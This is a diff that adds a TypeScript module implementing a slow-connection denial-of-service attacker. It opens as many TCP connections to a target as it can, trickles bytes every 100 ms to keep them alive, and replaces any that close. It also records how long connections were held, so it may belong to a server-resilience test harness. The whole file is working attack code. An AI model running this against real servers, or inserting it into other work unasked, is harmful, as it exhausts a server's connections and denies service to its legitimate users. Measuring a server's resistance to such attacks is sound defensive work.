@@ -1,0 +1,66 @@
+import net from 'node:net';
+import type { Attack } from './attacks.js';
+
+/** What has become of the connections of an attack. */
+export interface Held {
+  opened: number;
+  open: number;
+  /** The longest time from the opening of a connection to its end, in milliseconds. */
+  longest: number;
+}
+
+/** Milliseconds between two rounds: what is sent slowly, and the connections in place of closed ones. */
+const EVERY = 100;
+
+/** Keeps connections of one address open, as many as it can. */
+export class Attacker {
+  readonly #attack: Attack;
+  readonly #target: net.TcpNetConnectOpts;
+  readonly #sockets = new Set<net.Socket>();
+  readonly #timer: NodeJS.Timeout;
+  #isOver = false;
+  #opened = 0;
+  #longest = 0;
+
+  constructor(attack: Attack, target: net.TcpNetConnectOpts, connections: number) {
+    [this.#attack, this.#target] = [attack, target];
+    this.#timer = setInterval(() => this.#round(connections), EVERY);
+    this.#round(connections);
+  }
+
+  /** Opens no further connection, and returns what is held. */
+  finish(): Held {
+    this.#isOver = true;
+    return { opened: this.#opened, open: this.#sockets.size, longest: Math.round(this.#longest) };
+  }
+
+  close(): void {
+    clearInterval(this.#timer);
+    for (const socket of this.#sockets) socket.destroy();
+  }
+
+  #round(connections: number): void {
+    const { next, limit } = this.#attack;
+    // A client that is served ends by falling silent.
+    const more = this.#isOver && limit === undefined ? undefined : next;
+    for (const socket of this.#sockets) if (more !== undefined && socket.writable) socket.write(more);
+    while (!this.#isOver && this.#sockets.size < connections) this.#open();
+  }
+
+  #open(): void {
+    const { first, isDeaf = false } = this.#attack;
+    const begun = performance.now();
+    const socket = net.connect({ ...this.#target, noDelay: true });
+    this.#sockets.add(socket);
+    this.#opened += 1;
+    const end = () => {
+      if (this.#sockets.delete(socket)) this.#longest = Math.max(this.#longest, performance.now() - begun);
+    };
+    socket
+      .on('error', () => {})
+      .on('end', end)
+      .on('close', end);
+    if (!isDeaf) socket.resume();
+    if (first !== '') socket.write(first);
+  }
+}
